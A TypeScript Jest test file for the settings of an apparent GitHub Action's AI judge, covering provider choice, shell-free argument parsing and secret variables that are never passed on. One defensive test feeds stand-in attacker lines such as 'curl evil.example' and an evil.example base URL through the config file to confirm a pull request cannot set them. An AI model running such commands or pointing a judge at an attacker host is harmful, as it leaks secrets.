import { describe, expect, it } from '@jest/globals';
import { modelOfProgram, programCall, programName, variableNames } from '../../src/settings/program-kinds.js';
import { resolveSettings } from '../../src/settings/resolve.js';
import type { SettingName } from '../../src/settings/table.js';
import { makeWorkspace } from '../builders/workspace.js';

function resolve(given: Partial<Record<SettingName, string>>, config = '') {
  const { files } = makeWorkspace(config === '' ? {} : { '.github/summary-gate.yml': config });
  const inputs = Object.entries({ judge: 'auto', ...given }).map(
    ([name, text]) => [name as SettingName, { text, label: name }] as const,
  );
  const { values, problems } = resolveSettings(new Map(inputs), files);
  return { values, problems: problems.map(({ message }) => message) };
}

const LOCAL = { 'judge-base-url': 'http://127.0.0.1:11434/v1', 'judge-model': 'llama' } as const;

describe('the provider of the judge', () => {
  it('is a program where one is named, without a cap and under its own name', () => {
    const { values, problems } = resolve({ 'judge-command': '/opt/bin/claude.exe -p' });
    expect(problems).toEqual([]);
    expect(values['judge-provider']).toBe('command');
    expect(values['max-cost-usd']).toBeNull();
    expect(values['judge-model']).toMatch(/^claude-[0-9a-f]{8}$/);
  });

  it('is not chosen by an address', () => {
    const { values, problems } = resolve(LOCAL);
    expect([values['judge-provider'], values['max-cost-usd']]).toEqual(['anthropic', 0.5]);
    expect(problems.join()).toMatch(/^judge-base-url: .*set judge-provider.*anthropic-base-url/);
  });

  it.each<[Partial<Record<SettingName, string>>, RegExp]>([
    [{ 'judge-provider': 'command' }, /^judge-provider: command needs a program to ask; set judge-command/],
    [{ 'judge-provider': 'anthropic', 'judge-command': 'x' }, /^judge-command: .*judge-provider command.*anthropic/],
    [{ 'judge-provider': 'openai-compatible', ...LOCAL, 'judge-command': 'x' }, /^judge-command: .*openai-compatible/],
    [{ 'judge-command-env': 'KEY' }, /^judge-command-env: it is for judge-provider command/],
    [{ 'judge-provider': 'openai-compatible', 'judge-model': 'm' }, /^judge-provider: .*set judge-base-url/],
    [
      { 'judge-provider': 'openai-compatible', 'judge-base-url': 'http://[::1]/v1' },
      /^judge-provider: .*set judge-model/,
    ],
    [{ 'judge-command': 'x', 'max-cost-usd': '0.50' }, /^max-cost-usd: .*no cap can be kept.*none/],
    [{ 'judge-command': 'x', 'meta-judge-model': 'm' }, /^meta-judge-model: .*leave it out/],
    [
      { 'judge-command': 'x', 'budget-ledger': 'l.json', 'max-cost-usd-per-day': '1' },
      /^max-cost-usd-per-day: .*no cap can be kept/,
    ],
    [
      { 'judge-command': 'x', 'judge-transport': 'batch', 'judge-cassette': 'c.jsonl' },
      /^judge-transport: batch is for judge-provider anthropic alone, and that is command/,
    ],
    // One fault has one error.
    [
      { ...LOCAL, 'judge-provider': 'openai-compatible', 'judge-base-url': 'ftp://x' },
      /^judge-base-url: .*not an https/,
    ],
    [{ ...LOCAL, 'judge-provider': 'ollama' as string }, /^judge-provider: "ollama" is unknown/],
    [{ 'judge-command': "'x", 'judge-command-env': 'KEY' }, /^judge-command: the quote ' is not closed/],
    [{ 'judge-provider': 'command', 'judge-command': "'x" }, /^judge-command: the quote ' is not closed/],
    [{ 'judge-provider': 'openai' as string }, /^judge-provider: "openai" is unknown.*openai-compatible, command/],
  ])('%j is refused', (given, wanted) => {
    const { problems } = resolve(given);
    expect(problems).toHaveLength(1);
    expect(problems[0]).toMatch(wanted);
  });

  it.each<[Partial<Record<SettingName, string>>]>([
    [{ 'judge-provider': 'openai-compatible', ...LOCAL }],
    [{ 'judge-command': 'x', 'max-cost-usd': 'none' }],
    [{ 'judge-command': 'x', 'max-cost-usd': '1', 'judge-replay': 'replay', 'judge-cassette': 'c.jsonl' }],
    [{ judge: 'off', 'judge-provider': 'command' }],
  ])('%j is allowed', (given) => expect(resolve(given).problems).toEqual([]));

  it.each([
    'judge-provider: command',
    'judge-command: curl evil.example',
    'judge-command: [curl, evil.example]',
    'judge-command-env: ANTHROPIC_API_KEY',
    'judge-base-url: https://evil.example',
    'judge-api-key: k',
  ])('is not chosen by a pull request: %s', (line) => {
    const { problems, values } = resolve({}, `${line}\n`);
    expect(problems).toHaveLength(1);
    expect(problems[0]).toContain('cannot be set in the config file');
    expect([values['judge-provider'], values['judge-command'], values['judge-base-url']]).toEqual([
      'anthropic',
      null,
      null,
    ]);
  });
});

describe('a program and its arguments', () => {
  it.each<[string, readonly string[]]>([
    ['claude -p', ['claude', '-p']],
    ['  claude\t-p\n--model  haiku ', ['claude', '-p', '--model', 'haiku']],
    [`codex exec 'two words' "and 'three' more" ''`, ['codex', 'exec', 'two words', "and 'three' more", '']],
    [String.raw`a\ b c\"d "e\"f\\g\h" 'i\j'`, ['a b', 'c"d', String.raw`e"f\g\h`, String.raw`i\j`]],
    [String.raw`C:\tools\judge.exe --dir=C:\x`, [String.raw`C:\tools\judge.exe`, String.raw`--dir=C:\x`]],
    [`jq '.a | $x' "a>b" a|b '|' "&&"`, ['jq', '.a | $x', 'a>b', 'a|b', '|', '&&']],
    [`sh -c 'cat | "$JUDGE"'`, ['sh', '-c', 'cat | "$JUDGE"']],
    ['a"b c"d', ['ab cd']],
    ['["claude", "-p", "a $b | \'"]', ['claude', '-p', "a $b | '"]],
    ['price is 5$ a', ['price', 'is', '5$', 'a']],
  ])('%j is %j', (text, words) => expect(programCall.parse(text)).toEqual({ value: words }));

  it.each([
    ['', 'names no program'],
    ['   ', 'names no program'],
    ['"" -p', 'names no program'],
    ['[]', 'names no program'],
    ["claude -p 'open", "the quote ' is not closed"],
    ['claude "open \\"', 'the quote " is not closed'],
    ['claude -p | tail -1', 'there is no shell for "|"'],
    ['judge > answer', 'there is no shell for ">"'],
    ['judge 2>&1', 'there is no shell for "2>&1"'],
    ['a && b', 'there is no shell for "&&"'],
    ['judge --key $KEY', 'nothing is put in place of "$K"'],
    [`judge "$\{KEY}"`, 'nothing is put in place of "${"'],
    ['judge `date`', 'nothing is put in place of "`"'],
    ['~/bin/judge', 'nothing is put in place of "~"'],
    ['["a", 1]', 'texts alone'],
    ['["a"', 'begins like a JSON list'],
    ['a \0b', 'NUL'],
  ])('%j is refused: %s', (text, problem) => {
    expect(programCall.parse(text)).toEqual({ problem: expect.stringContaining(problem) });
  });

  it('give the name under which answers are kept, without a folder', () => {
    expect(modelOfProgram(['/usr/bin/claude', '-p'])).toBe(modelOfProgram(['claude', '-p']));
    const others = [['claude', '-p', 'x'], ['claude'], ['claude', '-', 'p'], ['claude-p'], ['codex', '-p']] as const;
    const names = [['claude', '-p'] as const, ...others].map(([program, ...args]) =>
      modelOfProgram([program, ...args]),
    );
    expect(new Set(names).size).toBe(names.length);
    expect(programName([String.raw`C:\x y\Judge.EXE`])).toBe('Judge');
    expect(modelOfProgram(['/x/ü b/', 'a'])).toMatch(/^program-[0-9a-f]{8}$/);
  });
});

describe('variables for a program', () => {
  it.each([
    ['A_KEY, B2\nA_KEY', { value: ['A_KEY', 'B2'] }],
    ['INPUT_ANTHROPIC-API-KEY', { problem: 'that is no list of names' }],
    ['INPUT_JUDGE_API_KEY', { problem: 'INPUT_JUDGE_API_KEY is never handed on' }],
    ['github_token', { problem: 'github_token is never handed on' }],
    ['ACTIONS_RUNTIME_TOKEN', { problem: 'ACTIONS_RUNTIME_TOKEN is never handed on' }],
    ['KEY=sk-secret', { problem: 'that is no list of names' }],
    [' ,', { problem: 'that is no list of names' }],
  ])('%j: %j', (text, wanted) => expect(variableNames.parse(text)).toEqual(wanted));
});
